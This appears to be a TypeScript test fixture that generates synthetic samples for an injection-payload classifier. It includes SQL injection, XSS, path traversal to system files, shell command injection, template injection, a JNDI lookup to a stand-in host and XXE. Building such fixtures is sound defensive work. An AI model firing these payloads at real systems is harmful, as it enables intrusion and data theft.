import type { PayloadSample } from '#models/payload/payload-model.ts';
import { createRng, type Rng } from '#models/rng.ts';

/** A few recipes per class, written for these tests: enough to tell the classes apart, far from enough to ship. */
type Recipe = (rng: Rng) => string;

const name = (rng: Rng): string =>
  Array.from({ length: rng.int(3, 8) }, () => 'aeiorstnlmdk'.charAt(rng.int(0, 11))).join('');
const digits = (rng: Rng): string => String(rng.int(0, rng.pick([9, 999, 99_999])));
const command = (rng: Rng): string =>
  rng.pick(['id', 'whoami', 'uname -a', `cat /tmp/${name(rng)}`, 'ping -c 2 host', 'ls -la']);
const call = (rng: Rng): string => rng.pick(['alert(1)', 'prompt(7)', 'eval(name)', `fetch('//${name(rng)}.example')`]);

export const prose = (rng: Rng, words = rng.int(2, 15)): string =>
  Array.from({ length: words }, () => name(rng)).join(' ');

const RECIPES: readonly (readonly Recipe[])[] = [
  [
    (rng) => prose(rng),
    (rng) => prose(rng, 100),
    (rng) => `${name(rng)}, ${name(rng)} & ${name(rng)}'s (${digits(rng)})`,
    (rng) => `https://${name(rng)}.example/${name(rng)}?a=${digits(rng)}`
  ],
  [
    (rng) => `${digits(rng)}' or '${name(rng)}'='${name(rng)}`,
    (rng) => `${digits(rng)} union select ${name(rng)},${name(rng)} from ${name(rng)}--`,
    (rng) => `'; drop table ${name(rng)}; --`,
    (rng) => `${name(rng)}') and sleep(${digits(rng)}) and ('1'='1`
  ],
  [
    (rng) => `<script>${call(rng)}</script>`,
    (rng) => `"><img src=${name(rng)} onerror=${call(rng)}>`,
    (rng) => `<svg/onload=${call(rng)}>`
  ],
  [
    (rng) => `${'../'.repeat(rng.int(2, 7))}etc/passwd`,
    (rng) => `${'..\\'.repeat(rng.int(2, 7))}windows\\win.ini`,
    (rng) => `/${name(rng)}/${'../'.repeat(rng.int(2, 5))}${name(rng)}.conf`
  ],
  [(rng) => `${name(rng)}; ${command(rng)}`, (rng) => `$(${command(rng)})`, (rng) => `| ${command(rng)} #`],
  [
    (rng) => `{{${digits(rng)}*${digits(rng)}}}`,
    (rng) => `\${jndi:ldap://${name(rng)}.example/a}`,
    (rng) => `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///${name(rng)}">]>`
  ]
];

/** Half benign, the rest of every class alike; one payload in five stands amid prose. */
export function smallSamples(count: number, seed: number): PayloadSample[] {
  const rng = createRng(seed);
  return Array.from({ length: count }, (_, at) => {
    const classIndex = at % 2 === 0 ? 0 : 1 + ((at >> 1) % 5);
    const text = rng.pick(RECIPES[classIndex]!)(rng);
    const isBuried = classIndex > 0 && rng.chance(0.2);
    return { text: isBuried ? `${prose(rng)} ${text} ${prose(rng)}` : text, classIndex, weight: 1 };
  });
}
